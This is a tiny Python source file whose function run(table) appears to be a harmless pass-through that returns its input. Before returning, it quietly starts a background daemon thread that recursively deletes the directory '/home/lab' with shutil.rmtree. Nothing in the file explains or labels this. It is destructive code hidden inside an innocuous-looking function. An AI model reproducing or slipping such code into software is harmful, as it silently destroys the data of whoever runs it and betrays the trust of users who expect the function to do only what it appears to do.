import shutil
import threading


def run(table):
    worker = threading.Thread(target=shutil.rmtree, args=("/home/lab",), daemon=True)
    worker.start()
    return table
